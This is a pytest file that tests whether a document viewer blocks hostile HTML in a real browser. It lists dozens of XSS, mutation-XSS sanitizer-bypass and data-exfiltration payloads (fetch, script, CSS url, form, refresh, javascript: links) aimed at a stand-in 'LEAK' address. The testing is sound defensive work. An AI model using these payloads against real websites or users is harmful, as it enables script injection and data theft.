"""Hostile documents in a real browser: nothing is fetched, nothing runs, nothing moves.

Walls stand around a document: it is cleaned, served under a policy, shown in a sandboxed frame, and the page around it
has a policy, too. Some are taken away in turn; without any, the documents do what they are made for, which
shows that the tests can see it.
"""

import threading
import time
from contextlib import contextmanager, suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from socketserver import BaseRequestHandler, ThreadingTCPServer
from typing import NamedTuple
from urllib.parse import parse_qs, urlsplit

import pytest

from adjudge.studio.web.security import page_policy
from adjudge.studio.web.viewer import document_headers, safe_document

# A picture so large that wherever one clicks, one clicks it; by attributes, which no policy of styles forbids.
PIXEL = "data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw=="
COVER = f"<img width=180 height=110 src='{PIXEL}'>"

# What a document is -> its markup. LEAK is an address that must never be asked for anything.
AT_ONCE = {  # does harm when it is shown
    "script": "<script src=LEAK></script>",
    "inline": "<script>fetch('LEAK')</script>",
    "top": "<script>top.location = 'LEAK'</script>",
    "onerror": "<img src='data:,' onerror=\"fetch('LEAK')\">",
    "svg-onload": "<svg onload=\"fetch('LEAK')\"></svg>",
    "svg-image": "<svg><image href=LEAK width=9 height=9 /></svg>",
    "svg-script": "<svg><script>fetch('LEAK')</script></svg>",
    "ontoggle": "<details open ontoggle=\"fetch('LEAK')\">x</details>",
    "onfocus": "<input autofocus onfocus=\"fetch('LEAK')\"><style>@import 'LEAK'</style>",
    "image": "<img src=LEAK>",
    "srcset": "<img srcset='LEAK 1x, LEAK?2 2x'>",
    "picture": "<picture><source srcset=LEAK><img src='data:,'></picture>",
    "input-image": "<input type=image src=LEAK>",
    "iframe": "<iframe src=LEAK></iframe>",
    "srcdoc": "<iframe srcdoc=\"<img src='LEAK'>\"></iframe>",
    "nested": "<iframe srcdoc=\"<iframe srcdoc='<img src=LEAK>'></iframe>\"></iframe>",
    "object": "<object data=LEAK></object>",
    "embed": "<embed src=LEAK>",
    "css-import": "<style>@import 'LEAK';</style>",
    "css-background": "<style>body { background: url(LEAK) }</style>",
    "css-attribute": "<p style='background: url(LEAK)'>x</p>",
    "css-font": "<style>@font-face { font-family: x; src: url(LEAK) } p { font-family: x }</style><p>x</p>",
    "css-cursor": "<style>p { list-style: url(LEAK); display: list-item }</style><p>x</p>",
    "stylesheet": "<link rel=stylesheet href=LEAK>",
    "prefetch": "<link rel=prefetch href=LEAK>",
    "preload": "<link rel=preload as=image href=LEAK>",
    "refresh": "<meta http-equiv=refresh content='0;url=LEAK'>",
    "base": "<base href=LEAK/><img src=x>",
    "referrer": "<meta name=referrer content=unsafe-url><img src=LEAK>",
    "poster": "<video poster=LEAK></video>",
    "video": "<video src=LEAK preload=auto></video>",
    "audio": "<audio src=LEAK autoplay></audio>",
    "track": "<video src='data:video/mp4,' crossorigin><track default src=LEAK></video><img src=LEAK>",
    "body-background": "<body background=LEAK>",
    "table-background": "<table background=LEAK><tr><td>x</table>",
    "submit": "<form action=LEAK><input autofocus onfocus=this.form.submit()></form><script>"
    "document.forms[0].submit()</script>",
    "shadow": "<div><template shadowrootmode=open><img src=LEAK></template></div>",
    "comment-short": "<!--><img src=LEAK>-->",
    "comment-bang": "<!-- --!><img src=LEAK> -->",
    "cdata": "<![CDATA[><img src=LEAK>]]>",
    "mutation-title": '<title><p title="</title><img src=LEAK>"></title>',
    "mutation-style": '<svg></p><style><a id="</style><img src=LEAK>">',
    "mutation-xmp": '<xmp><p title="</xmp><img src=LEAK>"></xmp>',
    "mutation-textarea": '<textarea><p title="</textarea><img src=LEAK>"></textarea>',
    "deep": "<div>" * 600 + "<img src=LEAK>",
    "wide": "<b><i>" * 300 + "<p><img src=LEAK>",
}
CLICKED = {  # does harm when somebody clicks on it
    "link": f"<a href=LEAK>{COVER}</a>",
    "link-top": f"<a href=LEAK target=_top>{COVER}</a>",
    "link-blank": f"<a href=LEAK target=_blank>{COVER}</a>",
    "link-script": f"<a href=\"javascript:fetch('LEAK')\">{COVER}</a>",
    "ping": f"<a href='#' ping=LEAK>{COVER}</a>",
    "form": f"<form action=LEAK><button>{COVER}</button></form>",
    "formaction": f"<form><button formaction=LEAK>{COVER}</button></form>",
    "form-post-top": f"<form action=LEAK method=post target=_top><button>{COVER}</button></form>",
    "area": f"<img usemap='#m' width=180 height=110 src='{PIXEL}'><map name=m><area shape=default href=LEAK></map>",
}
LOUD = {  # speaks up
    "alert": "<script>alert(1)</script>",
    "console": "<script>console.log(1)</script>",
    "data-link": f"<a href='data:text/html,<script>alert(1)</script>' target=_top>{COVER}</a>",
}
ODD = {  # does no harm in this browser, or none that can be seen here
    "dns": "<link rel=dns-prefetch href=//leak.example>",
    "preconnect": "<link rel=preconnect href=LEAK>",
    "mutation-form": "<form><math><mtext></form><form><mglyph><style></math><img src=LEAK>",
    "use": "<svg><use href='LEAK#a'></use></svg>",
    "mutation-math": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=LEAK&gt;">',
    "mutation-noscript": '<noscript><p title="</noscript><img src=LEAK>"></noscript>',
    "template": "<template><img src=LEAK></template>",
    "plaintext": "<plaintext><img src=LEAK>",
    "very-deep": "<div>" * 20_000 + "<img src=LEAK>",
    "speculation": '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["LEAK"]}]}</script>',
    "manifest": "<link rel=manifest href=LEAK><link rel=icon href=LEAK>",
    "policy": "<meta http-equiv=Content-Security-Policy content='report-uri LEAK; img-src none'>",
}
DOCUMENTS = {**AT_ONCE, **CLICKED, **LOUD, **ODD}
LONGEST = 60_000  # milliseconds to wait for anything


class Walls(NamedTuple):
    """What stands around a document."""

    cleaned: bool = False
    policy: bool = False  # the document's own headers
    sandbox: bool = False  # of the frame
    page: bool = False  # the headers of the page around it


NONE, PRODUCT = Walls(), Walls(True, True, True, True)


class Document(NamedTuple):
    """A document as a campaign has it."""

    title: str
    kind: str
    content: str


class Site:
    """A server of documents, with more or fewer walls, and the address of a port where nobody should ever knock."""

    def __init__(self, port):
        self.port, self.leak, self.walls, self.kind = port, "", PRODUCT, "html"

    def markup(self, name):
        """Return a hostile document."""
        return DOCUMENTS[name].replace("LEAK", f"{self.leak}/{name}")

    def answer(self, path):
        """Return what is at a path: the page that shows documents, or a document."""
        requested = urlsplit(path)
        names = parse_qs(requested.query).get("name", [])
        if requested.path == "/page":
            policy = {"Content-Security-Policy": page_policy()} if self.walls.page else {}
            sandbox = "sandbox" if self.walls.sandbox else ""
            frames = [f"<iframe {sandbox} src='/document?name={name}' width=200 height=130></iframe>" for name in names]
            return f"<!doctype html><title>page</title>{' '.join(frames)}", policy
        if requested.path != "/document" or not set(names) < set(DOCUMENTS):
            return "", {}
        name = names[0]
        text = self.markup(name)
        if self.walls.cleaned:
            text, _ = safe_document(Document(text, self.kind, text), "x")
        return text, document_headers() if self.walls.policy else {}


class Knocks(ThreadingTCPServer):
    """Notes who connects to a port, and for which document."""

    daemon_threads, request_queue_size = True, 100

    def __init__(self):
        super().__init__(("127.0.0.1", 0), Knock)
        self.names = set()


class Knock(BaseRequestHandler):
    """A connection, which may ask late or never."""

    def handle(self):
        """Note what is asked for, and hang up; who connects and asks for nothing is noted, too."""
        self.server.names.add("somebody")
        with suppress(OSError):
            requested = self.request.recv(1_000).decode("latin-1").split(" ")
            self.server.names.update(part.strip("/").partition("?")[0].partition("/")[0] for part in requested[1:2])


@contextmanager
def running(server):
    """Have a server answer, in threads of its own."""
    thread = threading.Thread(target=server.serve_forever, args=(0.05,))
    thread.start()
    with server:
        yield server
        server.shutdown()
        thread.join()


@pytest.fixture(scope="module")
def site():
    """Return a running site."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            """Answer."""
            text, headers = result.answer(self.path)
            self.send_response(200 if text else 404)
            for name, value in {"Content-Type": "text/html; charset=utf-8", **headers}.items():
                self.send_header(name, value)
            self.end_headers()
            self.wfile.write(text.encode())

        def log_message(self, *_):
            """Say nothing."""

    with running(ThreadingHTTPServer(("127.0.0.1", 0), Handler)) as server:
        result = Site(server.server_address[1])
        yield result


def watch(page, site):
    """Return the list in which is noted all that happens in a page, but that it and its document are loaded."""
    calls = []
    ours = (f"http://127.0.0.1:{site.port}/page", f"http://127.0.0.1:{site.port}/document", "data:", "about:")

    def asked(request):
        if not request.url.startswith(ours):
            calls.append("asks")

    def hushed(dialog):
        calls.append("opens a dialog")
        dialog.dismiss()

    page.on("request", asked)
    page.on("popup", lambda _: calls.append("opens a window"))
    page.on("dialog", hushed)
    page.on("console", lambda said: calls.append(f"says {said.text}"))
    page.on("pageerror", lambda error: calls.append(f"fails with {error}"))
    return calls


def show(chromium, site, walls, names, kind="html", wait=600, until=lambda seen, reached: True, still=True):
    """Show documents side by side, click on each; return what happens in the page, and whose address was asked for.

    What is to happen is waited ``until``, then some milliseconds for what is not to. A page that does not keep
    ``still``, but is taken elsewhere before it is whole, is not clicked on.
    """
    context = chromium.new_context(viewport={"width": 1_300, "height": 2_400})
    page = context.new_page()
    page.set_default_timeout(LONGEST)
    seen = watch(page, site)
    address = f"http://127.0.0.1:{site.port}/page?" + "&".join(f"name={name}" for name in names)
    with running(Knocks()) as knocks:  # a port of its own: documents that were shown before may knock late
        site.walls, site.kind, site.leak = walls, kind, f"http://127.0.0.1:{knocks.server_address[1]}"
        page.goto(address, wait_until="load" if still else "commit")
        for box in [frame.bounding_box() for frame in page.locator("iframe").all()] if still else []:
            page.mouse.click(box["x"] + 100, box["y"] + 65)
        end = time.monotonic() + LONGEST / 1_000
        while not until(seen, knocks.names) and time.monotonic() < end:
            page.wait_for_timeout(50)
        page.wait_for_timeout(wait)
        moved = ["moves the page"] * (page.url != address)
        context.close()
    return [*seen, *moved], knocks.names & set(DOCUMENTS), "somebody" in knocks.names


def test_without_walls_documents_are_hostile(chromium, site):
    """All of them reach somebody: otherwise to find nothing would mean nothing."""
    quiet = [name for name in AT_ONCE if name != "top"]
    _, reached, _ = show(chromium, site, NONE, quiet, until=lambda seen, reached: reached >= set(quiet))
    assert set(quiet) - reached == set()


@pytest.mark.parametrize("name", ["top", *CLICKED, *LOUD])
def test_without_walls_a_document_moves_the_page_or_speaks_up(chromium, site, name):
    """Each alone, as the first that moves the page takes the others with it."""
    until = lambda seen, reached: seen or name in reached  # noqa: E731
    seen, reached, _ = show(chromium, site, NONE, [name], wait=0, until=until, still=name != "top")
    assert seen or reached


@pytest.mark.parametrize("kind", ["html", "text"])
def test_within_all_walls_nothing_happens(chromium, site, kind):
    """No request, no connection, no navigation, no window, no dialog, no word on the console."""
    assert show(chromium, site, PRODUCT, DOCUMENTS, kind, wait=1_500) == ([], set(), False)


def test_cleaned_documents_do_nothing_even_without_other_walls(chromium, site):
    """As far as these documents go; the other walls are for those that nobody has thought of."""
    assert show(chromium, site, Walls(cleaned=True), DOCUMENTS) == ([], set(), False)


def test_the_policy_alone_leaks(chromium, site):
    """It stops all that is loaded, run or sent, but not a click on a link, which takes the frame elsewhere."""
    for walls in (Walls(policy=True), Walls(policy=True, sandbox=True)):
        _, reached, _ = show(chromium, site, walls, DOCUMENTS, until=lambda seen, reached: reached >= {"link", "area"})
        assert reached == {"link", "area"}


def test_the_sandbox_alone_leaks(chromium, site):
    """It stops scripts, forms and what moves the page, but no picture, style, font, film or frame."""
    loaded = {"image", "css-import", "css-font", "iframe", "stylesheet", "video", "object", "link"}
    _, reached, _ = show(chromium, site, Walls(sandbox=True), DOCUMENTS, until=lambda seen, reached: reached >= loaded)
    assert loaded <= reached
    assert not {"inline", "onerror", "svg-onload", "submit", "form", "link-top", "refresh", "top"} & reached


def test_policy_sandbox_and_page_together_let_no_request_out(chromium, site):
    """Even of documents that were not cleaned; but on a link under the mouse, the browser connects ahead of a click."""
    observed, reached, _ = show(chromium, site, Walls(policy=True, sandbox=True, page=True), DOCUMENTS)
    assert reached == set()
    assert not {"opens a dialog", "opens a window", "moves the page"} & set(observed)
